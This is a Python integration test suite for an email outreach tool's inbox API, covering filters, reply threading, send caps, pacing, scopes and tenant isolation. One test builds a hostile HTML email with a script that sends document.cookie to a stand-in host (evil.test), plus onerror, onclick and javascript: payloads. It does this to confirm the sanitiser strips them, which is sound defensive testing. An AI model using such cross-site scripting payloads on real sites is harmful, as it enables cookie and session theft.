"""The unified inbox API in-process over moto, with conversations made by the real sync (Dovecot) and replies sent
over the mail lab's SMTP: filters and pagination, detail with attachments, labels and read state, threading of
replies, new conversations, scopes and workspace isolation."""

from __future__ import annotations

import email
import threading
import uuid
from collections.abc import Iterator
from datetime import timedelta
from email.message import Message
from typing import Any

import pytest
from fastapi.testclient import TestClient

from devstack.maillab import MailAccount
from kindling.api.app import create_app
from kindling.auth.service import AuthService
from kindling.campaigns.models import CampaignMailbox, CampaignRecord, CampaignSettings, StepRecord, VariantRecord
from kindling.campaigns.repository import CampaignRepository
from kindling.enrollments.repository import EnrollmentRepository
from kindling.enrollments.service import EnrollmentService
from kindling.events.service import EventService
from kindling.mailboxes.repository import MailboxRepository
from kindling.platform.clock import ManualClock
from kindling.platform.ids import new_uuid
from kindling.platform.settings import reset_settings
from kindling.prospects.repository import ProspectRepository
from kindling.sending.repository import MailboxState, SendingRepository
from kindling.sending.scheduler import Scheduler
from kindling.suppressions.service import SuppressionService
from tests.conftest import Tenant, make_tenant
from tests.integration.inbox.test_sync_service import (  # noqa: F401  (fixtures reused as they are)
    World,
    angle,
    aws_env,
    lab_account,
    make_mailbox,
    reply,
    world,
)
from tests.integration.sending.world import ListPublisher, ListQueue

pytestmark = pytest.mark.mail


class Api:
    def __init__(self, client: TestClient, tenant: Tenant) -> None:
        self.client = client
        self.tenant = tenant

    def call(self, method: str, path: str, *, token: str | None = None, **kwargs: Any) -> Any:
        headers = {"Authorization": f"Bearer {token or self.tenant.token}"}
        return self.client.request(method, f"/api/v1/inbox{path}", headers=headers, **kwargs)

    def data(self, method: str, path: str, status: int = 200, **kwargs: Any) -> Any:
        response = self.call(method, path, **kwargs)
        assert response.status_code == status, response.text
        return response.json()["data"]


@pytest.fixture
def api(world: World) -> Iterator[Api]:  # noqa: F811
    with TestClient(create_app(), raise_server_exceptions=False) as client:
        yield Api(client, world.tenant)


def lab_prospect(world: World) -> MailAccount:  # noqa: F811
    """A prospect who is a lab mailbox too, so our replies are really delivered and can be read back."""
    return lab_account(world.lab, "prospect")


def messages_of(world: World, account: MailAccount) -> list[Message]:  # noqa: F811
    return [email.message_from_bytes(raw) for raw in world.lab.fetch_raw(account.email)]


def seed(world: World) -> dict[str, Any]:  # noqa: F811
    """Three conversations: an interested campaign reply, a German out-of-office, and a stranger's question."""
    pat_account = lab_prospect(world)
    pat = world.prospect(pat_account.email)
    sent = world.send(pat)
    world.deliver(reply(pat.email, world.account.email, "Sounds great, tell me more!", in_reply_to=angle(sent))[1])
    jo = world.prospect("jo@muster.test")
    world.deliver(
        reply(
            jo.email,
            world.account.email,
            "Ich bin bis einschließlich 14. Juni nicht im Büro.",
            subject="Abwesenheitsnotiz: Quick question",
            in_reply_to=angle(world.send(jo)),
        )[1]
    )
    world.deliver(reply("stranger@initech.test", world.account.email, "Who gave you my address?", subject="Hello")[1])
    report = world.sync()
    assert len(report.processed) == 3
    ids = {p.match.prospect_id if p.match else "stranger": p.conversation_id for p in report.processed}
    return {"pat": ids[pat.id], "jo": ids[jo.id], "stranger": ids["stranger"], "pat_account": pat_account, "sent": sent}


def test_list_filters_and_pagination(world: World, api: Api) -> None:  # noqa: F811
    seeded = seed(world)
    listed = api.data("GET", "/conversations")
    assert {c["id"] for c in listed} == {seeded["pat"], seeded["jo"], seeded["stranger"]}
    by_id = {c["id"]: c for c in listed}
    pat = by_id[seeded["pat"]]
    assert (pat["label"], pat["is_positive"], pat["lead_id"] is not None) == ("interested", True, True)
    assert pat["campaign_id"] == world.campaign.campaign_id and pat["snippet"].startswith("Sounds great")
    assert by_id[seeded["jo"]]["label"] == "out_of_office"
    assert by_id[seeded["stranger"]]["lead_id"] is None and by_id[seeded["stranger"]]["campaign_id"] is None
    assert "messages" not in pat

    def ids(**params: Any) -> set[str]:
        return {c["id"] for c in api.data("GET", "/conversations", params=params)}

    assert ids(campaign_id=world.campaign.campaign_id) == {seeded["pat"], seeded["jo"]}
    assert ids(label="interested") == {seeded["pat"]}
    assert ids(label="out_of_office") == {seeded["jo"]}
    assert ids(search="INITECH") == {seeded["stranger"]}
    assert ids(search="abwesenheit") == {seeded["jo"]}
    assert ids(mailbox_id=world.mailbox.id) == {seeded["pat"], seeded["jo"], seeded["stranger"]}
    assert ids(mailbox_id="someone-else") == set()
    assert ids(unread="true") == {seeded["pat"], seeded["jo"], seeded["stranger"]}
    api.data("PATCH", f"/conversations/{seeded['jo']}", json={"is_read": True})
    assert ids(unread="false") == {seeded["jo"]}
    assert ids(unread="true", campaign_id=world.campaign.campaign_id) == {seeded["pat"]}

    seen: list[str] = []
    cursor = None
    while True:
        response = api.call("GET", "/conversations", params={"limit": 1, **({"cursor": cursor} if cursor else {})})
        body = response.json()
        seen += [c["id"] for c in body["data"]]
        cursor = body["pagination"]["next_cursor"]
        if not body["pagination"]["has_more"]:
            break
    assert sorted(seen) == sorted(by_id) and len(seen) == 3

    bad = api.call("GET", "/conversations", params={"label": "thrilled"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "validation_error"
    assert api.call("GET", "/conversations", params={"cursor": "nonsense"}).status_code == 400


def test_detail_lists_attachments_and_caps_bodies(world: World, api: Api) -> None:  # noqa: F811
    boundary = "b-" + uuid.uuid4().hex[:8]
    big = "Interested! " + "x" * 80_000
    pdf = "JVBERi0xLjQKJcfsj6IKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoK"
    raw = (
        f"From: Pat <pat@acme-corp.test>\r\nTo: {world.account.email}\r\nSubject: Deck attached\r\n"
        f"Message-ID: <att.{uuid.uuid4().hex[:8]}@acme-corp.test>\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{big}\r\n"
        f'--{boundary}\r\nContent-Type: application/pdf; name="deck.pdf"\r\n'
        'Content-Disposition: attachment; filename="deck.pdf"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{pdf}\r\n--{boundary}--\r\n"
    )
    world.deliver(raw.encode())
    (processed,) = world.sync().processed
    detail = api.data("GET", f"/conversations/{processed.conversation_id}")
    (message,) = detail["messages"]
    assert message["direction"] == "incoming" and message["kind"] == "reply"
    assert message["attachments"] == [
        {"id": "att_1", "filename": "deck.pdf", "content_type": "application/pdf", "size": 48}
    ]
    assert len(message["text_body"].encode()) == 64 * 1024 and message["text_truncated"]
    assert message["email_date"].endswith("Z") and message["from_email"] == "pat@acme-corp.test"
    missing = api.call("GET", "/conversations/conv_doesnotexist")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"


def test_label_override_and_read_state(world: World, api: Api) -> None:  # noqa: F811
    seeded = seed(world)
    path = f"/conversations/{seeded['stranger']}"
    before = api.data("GET", path)
    assert (before["label"], before["is_positive"], before["is_read"]) == ("question", False, False)

    overridden = api.data("PATCH", path, json={"label_override": "needs_more_info"})
    assert (overridden["label"], overridden["classified_label"], overridden["is_positive"]) == (
        "needs_more_info",
        "question",
        True,
    )
    assert api.data("GET", path)["label_override"] == "needs_more_info"
    read = api.data("PATCH", path, json={"is_read": True})
    assert read["is_read"] and read["unread_count"] == 0 and all(m["is_read"] for m in read["messages"])
    assert read["label"] == "needs_more_info"  # an omitted field is unchanged
    cleared = api.data("PATCH", path, json={"label_override": None, "is_read": False})
    assert (cleared["label"], cleared["label_override"], cleared["is_positive"]) == ("question", None, False)
    assert cleared["unread_count"] == 1 and not any(m["is_read"] for m in cleared["messages"])

    for body in ({"label_override": "thrilled"}, {"is_read": None}, {"colour": "red"}):
        refused = api.call("PATCH", path, json=body)
        assert refused.status_code == 400, body


def test_reply_is_sent_threaded_and_recorded(world: World, api: Api) -> None:  # noqa: F811
    seeded = seed(world)
    pat_account: MailAccount = seeded["pat_account"]
    conversation = api.data("GET", f"/conversations/{seeded['pat']}")
    incoming_id = conversation["messages"][0]["message_id"]

    sent = api.data(
        "POST", f"/conversations/{seeded['pat']}/reply", 201, json={"content": "<p>Great! Here is the <b>deck</b>.</p>"}
    )
    assert sent["direction"] == "outgoing" and sent["is_read"] and sent["subject"] == "Re: Quick question"
    assert sent["to_recipients"] == [{"email": pat_account.email, "name": None}]
    assert sent["from_email"] == world.account.email and "Here is the deck" in sent["text_body"]

    (delivered,) = [m for m in messages_of(world, pat_account) if m["Message-ID"] == sent["message_id"]]
    assert delivered["In-Reply-To"] == incoming_id
    references = str(delivered["References"]).split()
    assert references[-1] == incoming_id and angle(seeded["sent"]) in references
    assert delivered["Subject"] == "Re: Quick question"

    after = api.data("GET", f"/conversations/{seeded['pat']}")
    assert [m["direction"] for m in after["messages"]] == ["incoming", "outgoing"]
    assert after["message_count"] == 2 and after["unread_count"] == 1

    # Pat answers our reply: the sync threads it into the same conversation through our Message-ID.
    world.deliver(reply(pat_account.email, world.account.email, "Thanks, got it.", in_reply_to=sent["message_id"])[1])
    (processed,) = world.sync().processed
    assert processed.conversation_id == seeded["pat"]


def test_new_conversation_sends_the_first_email(world: World, api: Api) -> None:  # noqa: F811
    target = lab_prospect(world)
    created = api.data(
        "POST",
        "/conversations",
        201,
        json={"to": [{"email": target.email, "name": "Dana"}], "subject": "Hello Dana", "content": "<p>Hi Dana</p>"},
    )
    assert created["contact_email"] == target.email and created["contact_name"] == "Dana"
    assert created["lead_id"] is None and created["mailbox_id"] == world.mailbox.id
    (message,) = created["messages"]
    assert message["direction"] == "outgoing" and message["subject"] == "Hello Dana"
    (delivered,) = messages_of(world, target)
    assert delivered["Message-ID"] == message["message_id"] and delivered["In-Reply-To"] is None
    assert created["id"] in {c["id"] for c in api.data("GET", "/conversations")}

    # Dana replies: the reply lands in this conversation.
    world.deliver(reply(target.email, world.account.email, "Hi! Who are you?", in_reply_to=message["message_id"])[1])
    (processed,) = world.sync().processed
    assert processed.conversation_id == created["id"]


def test_new_conversation_refusals(world: World, api: Api, clock: ManualClock) -> None:  # noqa: F811
    target = lab_prospect(world)
    suppressed = api.client.post(
        "/api/v1/suppressions",
        json={"type": "email", "value": target.email},
        headers={"Authorization": f"Bearer {world.tenant.token}"},
    )
    assert suppressed.status_code == 201, suppressed.text
    body = {"to": [{"email": target.email}], "subject": "Hi", "content": "<p>Hi</p>"}
    refused = api.call("POST", "/conversations", json=body)
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "recipient_suppressed"
    assert messages_of(world, target) == []

    invalid = api.call("POST", "/conversations", json={**body, "to": [{"email": "not an address"}]})
    assert invalid.status_code == 400

    lonely = make_tenant(name="No mailbox")
    alone = api.call("POST", "/conversations", token=lonely.token, json={**body, "to": [{"email": "x@y.test"}]})
    assert alone.status_code == 422 and alone.json()["error"]["code"] == "no_active_mailbox"

    wrong = make_mailbox(world.workspace_id, lab_account(world.lab, "wrongpw"), clock, password="nope-nope")
    other = lab_prospect(world)
    failed = api.call("POST", "/conversations", json={**body, "mailbox_id": wrong.id, "to": [{"email": other.email}]})
    assert failed.status_code == 422 and failed.json()["error"]["code"] == "send_failed"
    repo = MailboxRepository()
    current = repo.get(world.workspace_id, wrong.id)
    repo.replace(current.model_copy(update={"status": "error"}), current.version)
    unusable = api.call("POST", "/conversations", json={**body, "mailbox_id": wrong.id, "to": [{"email": other.email}]})
    assert unusable.status_code == 422 and unusable.json()["error"]["code"] == "mailbox_unavailable"


def test_a_new_conversation_passes_the_same_gates_one_send_per_recipient(world: World, api: Api) -> None:  # noqa: F811
    mailboxes, sending = MailboxRepository(), SendingRepository()
    current = mailboxes.get(world.workspace_id, world.mailbox.id)
    mailboxes.replace(current.model_copy(update={"daily_send_limit": 2}), current.version)

    def sent_today() -> int:
        return sending.mailbox_state(world.workspace_id, world.mailbox.id).today("2026-06-10")[0]

    ann, ben, cy = (lab_prospect(world) for _ in range(3))
    body = {"subject": "Hello", "content": "<p>Hi</p>"}
    three = api.call("POST", "/conversations", json={**body, "to": [{"email": a.email} for a in (ann, ben, cy)]})
    assert three.status_code == 429 and three.json()["error"]["code"] == "daily_limit_reached", three.text
    (detail,) = three.json()["error"]["details"]
    assert (detail["limit"], detail["used"]) == (2, 2)  # the third copy would be the day's third send
    assert [messages_of(world, a) for a in (ann, ben, cy)] == [[], [], []] and sent_today() == 0

    # One copy refused by the server (no such lab account): only the delivered copy counts.
    partly = api.data(
        "POST", "/conversations", 201, json={**body, "to": [{"email": ann.email}, {"email": "ghost@nowhere.test"}]}
    )
    assert [r["email"] for r in partly["messages"][0]["to_recipients"]] == [ann.email]
    assert len(messages_of(world, ann)) == 1 and sent_today() == 1
    api.data("POST", "/conversations", 201, json={**body, "to": [{"email": ben.email}]})
    assert sent_today() == 2
    full = api.call("POST", "/conversations", json={**body, "to": [{"email": cy.email}]})
    assert full.status_code == 429 and full.headers["Retry-After"] == "54000"
    assert messages_of(world, cy) == [] and sent_today() == 2


def test_scopes_and_workspace_isolation(world: World, api: Api) -> None:  # noqa: F811
    seeded = seed(world)
    path = f"/conversations/{seeded['stranger']}"
    auth = AuthService()

    def token(*scopes: str) -> str:
        return auth.create_api_key(world.workspace_id, name="scoped", scopes=list(scopes))[1]

    campaigns_read, inbox_read, campaigns_write = token("campaigns:read"), token("inbox:read"), token("campaigns:write")
    prospects_only = token("prospects:read")
    assert api.call("GET", path, token=campaigns_read).status_code == 200
    assert api.call("GET", path, token=inbox_read).status_code == 200
    assert api.call("PATCH", path, token=inbox_read, json={"is_read": True}).status_code == 403
    assert api.call("PATCH", path, token=campaigns_read, json={"is_read": True}).status_code == 403
    assert api.call("PATCH", path, token=campaigns_write, json={"is_read": True}).status_code == 200
    denied = api.call("GET", "/conversations", token=prospects_only)
    assert denied.status_code == 403 and denied.json()["error"]["code"] == "insufficient_scope"

    intruder = make_tenant(name="Intruder")
    assert api.call("GET", path, token=intruder.token).status_code == 404
    assert api.call("PATCH", path, token=intruder.token, json={"is_read": True}).status_code == 404
    reply_path = f"{path}/reply"
    assert api.call("POST", reply_path, token=intruder.token, json={"content": "<p>x</p>"}).status_code == 404
    assert api.data("GET", "/conversations", token=intruder.token) == []


class Gates:
    """The reply route of one seeded world, and what the mailbox's day and the recipients' lab mailboxes hold."""

    def __init__(self, world: World, api: Api) -> None:  # noqa: F811
        self.world, self.api = world, api
        self.seeded = seed(world)
        self.pat: MailAccount = self.seeded["pat_account"]
        self.mailboxes, self.sending = MailboxRepository(), SendingRepository()

    def reply(self, who: str = "pat", content: str = "<p>More</p>") -> Any:
        return self.api.call("POST", f"/conversations/{self.seeded[who]}/reply", json={"content": content})

    def change_mailbox(self, **changes: Any) -> None:
        current = self.mailboxes.get(self.world.workspace_id, self.world.mailbox.id)
        self.mailboxes.replace(current.model_copy(update=changes), current.version)

    def state(self) -> MailboxState:
        return self.sending.mailbox_state(self.world.workspace_id, self.world.mailbox.id)

    def sent_today(self) -> int:
        """The mailbox's campaign-send count for today, as the scheduler's caps read it."""
        return self.state().today(self.world.clock.now().date().isoformat())[0]

    def pace(self, minutes: float) -> None:
        """A campaign sharing the mailbox paces it at `minutes` between sends (as the scheduler registers it)."""
        state = self.state()
        now = self.world.clock.now().isoformat()
        assert self.sending.register_intervals(self.world.workspace_id, state, f'{{"c1": [{minutes}, "{now}"]}}')

    def delivered_to_pat(self) -> int:
        """Our messages in Pat's lab mailbox: the lab's SMTP server stores a copy only once DATA is accepted."""
        return len(messages_of(self.world, self.pat))


@pytest.fixture
def gates(world: World, api: Api) -> Gates:  # noqa: F811
    return Gates(world, api)


def test_a_reply_at_the_mailbox_daily_limit_is_refused_with_429_and_never_reaches_the_server(gates: Gates) -> None:
    gates.change_mailbox(daily_send_limit=1)
    assert gates.reply(content="<p>One</p>").status_code == 201
    assert gates.sent_today() == 1 and gates.delivered_to_pat() == 1

    refused = gates.reply(content="<p>Two</p>")
    assert refused.status_code == 429, refused.text
    error = refused.json()["error"]
    assert error["code"] == "daily_limit_reached"
    # 2026-06-10 09:00 UTC: the mailbox's day (UTC) resets at midnight, 15 hours away.
    assert refused.headers["Retry-After"] == "54000"
    (detail,) = error["details"]
    assert (detail["code"], detail["limit"], detail["used"]) == ("mailbox_daily_limit", 1, 1)
    assert (detail["resets_at"], detail["retry_after_seconds"]) == ("2026-06-11T00:00:00.000Z", 54000)
    assert gates.delivered_to_pat() == 1 and gates.sent_today() == 1  # no DATA, nothing counted


def test_a_reply_at_the_500_a_day_hard_cap_is_refused_even_under_the_mailbox_limit(gates: Gates) -> None:
    gates.change_mailbox(daily_send_limit=100)
    state = gates.state()
    day = gates.world.clock.now().date().isoformat()
    # 20 campaign sends and 480 warmup sends today: 500 in all, 80 under the mailbox's own limit.
    assert gates.sending.reserve_mailbox(
        gates.world.workspace_id, state, day, sends=20, domains={}, next_allowed_at=None, warmup=480
    )
    refused = gates.reply()
    assert refused.status_code == 429 and refused.json()["error"]["code"] == "daily_limit_reached", refused.text
    (detail,) = refused.json()["error"]["details"]
    assert (detail["code"], detail["limit"], detail["used"]) == ("hard_cap", 500, 500)
    assert gates.delivered_to_pat() == 0 and gates.sent_today() == 20


def test_two_replies_racing_for_the_last_send_of_the_day_send_exactly_one(
    gates: Gates, monkeypatch: pytest.MonkeyPatch
) -> None:
    gates.change_mailbox(daily_send_limit=1)
    # Both replies read the mailbox's day (0 of 1) before either writes: the race is run every time, not by luck.
    read = SendingRepository.mailbox_state
    both_read = threading.Barrier(2)
    reads: list[str] = []
    first_read = threading.local()

    def read_then_wait(self: SendingRepository, workspace_id: str, mailbox_id: str) -> MailboxState:
        state = read(self, workspace_id, mailbox_id)
        reads.append(threading.current_thread().name)
        if not getattr(first_read, "done", False):
            first_read.done = True
            both_read.wait(timeout=30)
        return state

    monkeypatch.setattr(SendingRepository, "mailbox_state", read_then_wait)
    start = threading.Barrier(2)
    statuses: list[int] = []

    def send(n: int) -> None:
        start.wait()
        statuses.append(gates.reply(content=f"<p>Racer {n}</p>").status_code)

    racers = [threading.Thread(target=send, args=(n,)) for n in range(2)]
    for racer in racers:
        racer.start()
    for racer in racers:
        racer.join(timeout=60)
    monkeypatch.undo()
    # The loser's version-conditioned write failed, it read again, and the day was full: 429, nothing sent.
    assert sorted(statuses) == [201, 429] and len(reads) == 3
    assert gates.delivered_to_pat() == 1 and gates.sent_today() == 1


def test_the_pacer_makes_a_second_reply_wait_with_retry_after(gates: Gates) -> None:
    gates.pace(5)
    assert gates.reply(content="<p>One</p>").status_code == 201
    paced = gates.reply(content="<p>Two</p>")
    assert paced.status_code == 429 and paced.json()["error"]["code"] == "mailbox_paced", paced.text
    assert paced.headers["Retry-After"] == "300"
    (detail,) = paced.json()["error"]["details"]
    assert (detail["code"], detail["retry_after_seconds"], detail["next_send_at"]) == (
        "pacer",
        300,
        "2026-06-10T09:05:00.000Z",
    )
    assert gates.delivered_to_pat() == 1
    gates.world.clock.advance(timedelta(minutes=4, seconds=59))
    assert gates.reply(content="<p>Two</p>").status_code == 429
    gates.world.clock.advance(timedelta(seconds=1))
    assert gates.reply(content="<p>Two</p>").status_code == 201
    assert gates.delivered_to_pat() == 2 and gates.sent_today() == 2


def test_a_reply_the_server_refuses_gives_back_the_days_count_and_the_pacer_slot(gates: Gates) -> None:
    gates.pace(5)
    # The stranger is no lab account: the lab's SMTP server answers RCPT TO with 550 (user unknown).
    refused = gates.reply("stranger")
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "send_failed", refused.text
    assert gates.sent_today() == 0 and gates.state().last_send_at is None
    # The pacer slot went back too: a reply right away is not paced, goes out and keeps its count.
    assert gates.reply().status_code == 201
    assert gates.sent_today() == 1 and gates.state().last_send_at == gates.world.clock.now()
    assert gates.delivered_to_pat() == 1
    # Now the pacer holds, and the gates come before SMTP (the refusal is 429, not send_failed).
    assert gates.reply("stranger").status_code == 429
    assert gates.sent_today() == 1


def test_a_reply_counts_against_the_day_so_the_next_campaign_tick_plans_one_less(
    gates: Gates, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = gates.world
    monkeypatch.setenv("KINDLING_TRACKING_SECRET", "inbox-gates-tracking-secret")  # a test value
    monkeypatch.setenv("KINDLING_PUBLIC_BASE_URL", "https://track.example.test")
    reset_settings()
    gates.change_mailbox(daily_send_limit=3)
    assert gates.reply().status_code == 201

    now = here.clock.now()
    step = StepRecord(
        id=new_uuid(),
        step_index=0,
        variants=[VariantRecord(id=new_uuid(), letter="A", subject="Hello", body_html="<p>Hi</p>")],
        created_at=now,
        updated_at=now,
    )
    campaign = CampaignRecord(
        campaign_id=new_uuid(),
        workspace_id=here.workspace_id,
        name="Shares the mailbox",
        status="running",
        started_at=now,
        settings=CampaignSettings(schedule_days=[1, 2, 3, 4, 5, 6, 7], minutes_between_sends=0),
        mailboxes=[CampaignMailbox(mailbox_id=here.mailbox.id, added_at=now)],
        steps=[step],
        created_at=now,
        updated_at=now,
    )
    CampaignRepository().insert(campaign)
    leads = [here.prospect(f"lead{n}@client{n}.test", enroll=False).id for n in range(3)]
    EnrollmentService().enroll(here.workspace_id, campaign.campaign_id, prospect_ids=leads)
    queue = ListQueue()
    scheduler = Scheduler(queue=queue, clock=here.clock, events=EventService(publisher=ListPublisher()))
    report = scheduler.tick()
    assert report.errors == []
    # Limit 3, one used by the reply: the tick claims two of the three leads and the third waits for tomorrow.
    assert report.claimed == 2 and len(queue.jobs) == 2
    assert gates.sent_today() == 3
    reset_settings()


def test_a_suppressed_or_unavailable_reply_is_refused_and_not_counted(gates: Gates) -> None:
    gates.change_mailbox(status="disconnected")
    unavailable = gates.reply()
    assert unavailable.status_code == 422 and unavailable.json()["error"]["code"] == "mailbox_unavailable"
    gates.change_mailbox(status="connected", sending_enabled=False)
    disabled = gates.reply()
    assert disabled.status_code == 422 and disabled.json()["error"]["code"] == "mailbox_unavailable"
    gates.change_mailbox(sending_enabled=True)
    SuppressionService().suppress_emails(gates.world.workspace_id, [gates.pat.email], reason="manual")
    suppressed = gates.reply()
    assert suppressed.status_code == 422 and suppressed.json()["error"]["code"] == "recipient_suppressed"
    assert gates.delivered_to_pat() == 0 and gates.sent_today() == 0


def test_incoming_html_is_sanitised_and_raw_only_on_request(world: World, api: Api) -> None:  # noqa: F811
    boundary = "alt-" + uuid.uuid4().hex[:8]
    hostile = (
        '<p onclick="steal()">Interested!</p><script>fetch("https://evil.test/?c="+document.cookie)</script>'
        '<img src="https://cdn.acme-corp.test/logo.png" onerror="alert(1)">'
        '<a href="javascript:alert(2)">click</a> <a href="https://acme-corp.test/deck">deck</a>'
    )
    raw = (
        f"From: Pat <pat@acme-corp.test>\r\nTo: {world.account.email}\r\nSubject: Re: Quick question\r\n"
        f"Message-ID: <html.{uuid.uuid4().hex[:8]}@acme-corp.test>\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nInterested!\r\n"
        f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{hostile}\r\n--{boundary}--\r\n"
    )
    world.deliver(raw.encode())
    (processed,) = world.sync().processed

    (message,) = api.data("GET", f"/conversations/{processed.conversation_id}")["messages"]
    html = message["html_body"]
    for forbidden in ("<script", "document.cookie", "onclick", "onerror", "javascript:"):
        assert forbidden not in html, (forbidden, html)
    assert "<p>Interested!</p>" in html
    assert 'src="https://cdn.acme-corp.test/logo.png"' in html
    assert 'href="https://acme-corp.test/deck"' in html

    (as_received,) = api.data("GET", f"/conversations/{processed.conversation_id}", params={"format": "raw"})[
        "messages"
    ]
    assert as_received["html_body"].strip() == hostile
    bad = api.call("GET", f"/conversations/{processed.conversation_id}", params={"format": "html"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "validation_error"
    # The raw source needs the inbox read scope like the rest of the conversation.
    token_only = AuthService().create_api_key(world.tenant.workspace_id, name="narrow", scopes=("prospects:read",))[1]
    refused = api.call("GET", f"/conversations/{processed.conversation_id}", params={"format": "raw"}, token=token_only)
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "insufficient_scope"


def test_marking_a_reply_out_of_office_resumes_the_sequence_once(world: World, api: Api) -> None:  # noqa: F811
    """Help center §22: a missed out-of-office marked by hand resumes the lead's sequence (back to pending, next
    step on the next tick) and stops counting as a reply, as if it had been detected; repeating, clearing and
    re-setting the label apply it once."""
    pat = world.prospect("pat@acme-corp.test")
    sent = world.send(pat)
    world.deliver(
        reply(pat.email, world.account.email, "Back on the 20th, we can talk then.", in_reply_to=angle(sent))[1]
    )
    (processed,) = world.sync().processed
    assert processed.kind == "reply" and processed.stopped and world.status(pat) == "replied"
    people, sending = ProspectRepository(), SendingRepository()
    assert (record := people.email_record(world.workspace_id, pat.email)) is not None and record.replied_at is not None
    cid = processed.conversation_id or ""
    step_id = world.campaign.steps[0].id

    def replied() -> tuple[int, int, int]:
        """The campaign's, step 1's and variant A's `replied` counters."""
        stored = CampaignRepository().get(world.workspace_id, world.campaign.campaign_id)
        return (
            stored.stats.replied,
            stored.step_stats[step_id].replied,
            stored.variant_stats[f"{step_id}#A"].replied,
        )

    assert replied() == (1, 1, 1)

    world.clock.advance(timedelta(hours=2))
    marked_at = world.clock.now()
    marked = api.data("PATCH", f"/conversations/{cid}", json={"label_override": "out_of_office"})
    assert marked["label"] == "out_of_office"
    item = sending.get_enrollment(world.workspace_id, world.campaign.campaign_id, pat.id)
    assert item is not None and (item.status, item.stopped_reason) == ("pending", None)
    assert item.next_send_at == marked_at and item.due_pk  # due now: the next tick picks it up
    assert (record := people.email_record(world.workspace_id, pat.email)) is not None and record.replied_at is None
    summary = EnrollmentRepository().summary(world.workspace_id, world.campaign.campaign_id)
    assert (summary.count("replied"), summary.count("pending")) == (0, 2)  # Pat and the quiet prospect
    assert replied() == (0, 0, 0)  # an out-of-office is not a reply in the campaign's stats either

    # Again, cleared, and set again: nothing moves twice (the enrollment is as the first PATCH left it).
    for body in ({"label_override": "out_of_office"}, {"label_override": None}, {"label_override": "out_of_office"}):
        world.clock.advance(timedelta(minutes=1))
        api.data("PATCH", f"/conversations/{cid}", json=body)
        again = sending.get_enrollment(world.workspace_id, world.campaign.campaign_id, pat.id)
        assert again is not None and again.status == "pending"
        assert (again.updated_at, again.next_send_at) == (item.updated_at, marked_at)
        assert replied() == (0, 0, 0)

    # The next tick picks Pat up and does not stop Pat again (the reply mark that made campaigns skip Pat is gone):
    # step 0 is on the ledger as sent, so the sequence moves on to step 1.
    scheduler = Scheduler(queue=ListQueue(), clock=world.clock, events=EventService(publisher=ListPublisher()))
    assert scheduler.tick().errors == []
    moved = sending.get_enrollment(world.workspace_id, world.campaign.campaign_id, pat.id)
    assert moved is not None and (moved.status, moved.current_step) == ("active", 1)


def test_an_out_of_office_label_on_a_conversation_without_a_campaign_changes_no_enrollment(
    world: World,  # noqa: F811
    api: Api,
) -> None:
    seeded = seed(world)
    before = EnrollmentRepository().summary(world.workspace_id, world.campaign.campaign_id)
    api.data("PATCH", f"/conversations/{seeded['stranger']}", json={"label_override": "out_of_office"})
    # Pat's conversation said "interested": marking another conversation does not resume Pat.
    after = EnrollmentRepository().summary(world.workspace_id, world.campaign.campaign_id)
    assert after.counts == before.counts and after.count("replied") == 1
